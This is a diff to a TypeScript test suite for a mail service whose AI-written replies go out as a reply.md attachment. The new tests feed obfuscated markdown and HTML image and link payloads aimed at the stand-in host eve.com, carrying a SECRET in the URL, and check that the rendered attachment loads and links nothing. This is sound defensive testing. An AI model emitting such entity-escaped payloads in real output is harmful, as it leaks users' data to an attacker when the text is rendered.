@@ -5,6 +5,7 @@ import { simpleParser } from "mailparser";
 import MarkdownIt from "markdown-it";
 import { markdownToHtml } from "../../src/mail/writing/html-writer.ts";
 import { written } from "../../src/mail/writing/written.ts";
+import { literalMarkdown } from "../../src/trust/shown/harmless-text.ts";
 import { guardMarkdown, learnFrom, linkGuard, madeUpLinks, type Trust } from "../../src/trust/shown/links.ts";
 import { mailroom } from "../support/mailroom.ts";
 import { rawMail } from "../support/mails.ts";
@@ -322,6 +323,35 @@ describe("the mail", () => {
     expect(mail.attachments.map(({ filename }) => filename)).toEqual(["reply.md"]);
     expect(mail.attachments[0]?.content.toString()).toContain("(link left out)");
     expect(mail.attachments[0]?.content.toString()).not.toContain(SECRET);
+  });
+
+  test.each([
+    ["a picture", "![it](https&colon;//eve&#46;com/SECRET.png)"],
+    ["a picture with escapes", String.raw`![it](https\://eve\.com/SECRET.png)`],
+    ["a picture by reference", "![it][1]\n\n[1]: https&#58;//eve&#46;com/SECRET.png"],
+    ["a picture without a scheme", "![it](//eve&period;com/SECRET.png)"],
+    ["a picture that its material names", "![it](https://news.example/story)"],
+    ["a tag", "<img src=https&colon;//eve&#46;com/SECRET.png>"],
+    ["a link", "[it](https&#58;//eve&#46;com/?SECRET)"],
+  ])("loads and tells nothing by its attached reply.md: %s", async (_how, hidden) => {
+    const long = `${hidden}\n\n${"- one more line\n".repeat(3_000)}`;
+    await using room = await mailroom({ model: { reply: () => long } });
+    const text = "See https://news.example/story";
+    await room.send({ subject: "Re: Hello", text: `Write at length\n\n> ${text}` });
+    await room.drain();
+    const [row] = await room.outgoing();
+    const { attachments } = await simpleParser(Buffer.from(row?.raw ?? []));
+    const shown = attachments.find(({ filename }) => filename === "reply.md")?.content.toString() ?? "";
+    expect(shown).toContain("one more line");
+    const page = new MarkdownIt({ html: true }).render(shown);
+    expect(page).not.toMatch(/<img|(?:src|href)="?[^">]*eve/);
+  });
+
+  test("shows what takes too long to read as it is written, also in its attached reply.md", () => {
+    const hidden = "![it](https&colon;//eve&#46;com/a) <img src=//eve&#46;com/b> [c](https\\://eve\\.com/d)";
+    const page = new MarkdownIt({ html: true }).render(literalMarkdown(hidden));
+    expect(page).not.toMatch(/<(?:img|a)\b/);
+    expect(page).toContain("https&amp;colon;//eve&amp;#46;com/a");
   });
 });
 
